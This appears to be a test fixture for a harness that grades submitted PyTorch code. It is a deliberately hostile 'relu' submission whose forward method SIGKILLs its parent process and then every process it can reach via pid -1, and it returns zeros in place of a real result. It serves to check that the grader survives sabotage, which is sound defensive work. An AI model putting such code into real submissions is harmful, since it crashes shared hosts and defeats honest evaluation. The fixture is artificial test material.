# fixture
# entry: E11
# problem: relu
# what: kills its parent, then everything it may
# expect: crash/signal crash/exit crash/protocol crash/exception wrong/value
# attacks: host down
# gpu: no
import os
import signal

import torch
import torch.nn as nn


class ModelNew(nn.Module):
    def forward(self, x):
        for pid in (os.getppid(), -1):
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                continue
        return torch.zeros_like(x)
